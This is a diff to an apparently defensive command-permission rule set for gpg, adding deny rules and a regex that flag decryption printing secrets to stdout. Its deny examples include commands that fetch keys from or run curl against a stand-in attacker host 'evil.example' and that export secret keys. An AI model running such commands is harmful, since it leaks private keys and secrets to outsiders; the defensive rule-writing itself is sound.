@@ -893,10 +893,12 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
-  }, { deny: ['gpg --recv-keys 0xABCDEF', 'gpg --fetch-keys https://evil.example/k.asc', 'gpg --keyserver evil.example --send-keys ABC', "gpg --photo-viewer 'curl evil.example' --list-options show-photos --list-keys"], pass: ['gpg --verify release.sig release.tar.gz', 'gpg --armor --export me@example.com', 'gpg --decrypt secrets.gpg'] }), {
+  }, { deny: ['gpg --recv-keys 0xABCDEF', 'gpg --fetch-keys https://evil.example/k.asc', 'gpg --keyserver evil.example --send-keys ABC', "gpg --photo-viewer 'curl evil.example' --list-options show-photos --list-keys"], pass: ['gpg --verify release.sig release.tar.gz', 'gpg --armor --export me@example.com', 'gpg --encrypt -r me@example.com notes.txt'] }), {
     store: '~/.gnupg/',
-    prints: /(^|\s)--export-secret-(sub)?keys?\b/,
-    examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys'], pass: ['gpg --armor --export me@example.com'] },
+    // -d/--decrypt (and gpg's prefixes of it) decrypt with the private key kept in ~/.gnupg and print the plaintext,
+    // a secret read as `sops -d` is, unless -o/--output names a file it is written to instead (`-o -` is stdout).
+    prints: /^(?!(?:.*\s)?(?:-o\s*|--output[=\s]+)(?!-(?:\s|$))\S).*(?:^|\s)(?:--export-secret-(?:sub)?keys?\b|--decr(?:y(?:pt?)?)?(?:\s|=|$)|-[a-zA-Z]*d[a-zA-Z]*(?:\s|$))|(?:^|\s)--export-secret-(?:sub)?keys?\b/,
+    examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys', 'gpg -d secrets.txt.gpg', 'gpg --decrypt secrets.gpg', 'gpg --batch -qd secrets.gpg', 'gpg --decr secrets.gpg', 'gpg -o - -d secrets.gpg', 'gpg --output=- --decrypt secrets.gpg'], pass: ['gpg --armor --export me@example.com', 'gpg --list-keys', 'gpg -e -r me@example.com notes.txt', 'gpg -o notes.txt -d notes.gpg', 'gpg --output notes.txt --decrypt notes.gpg'] },
   }),
   {
     names: ['git-send-email'],
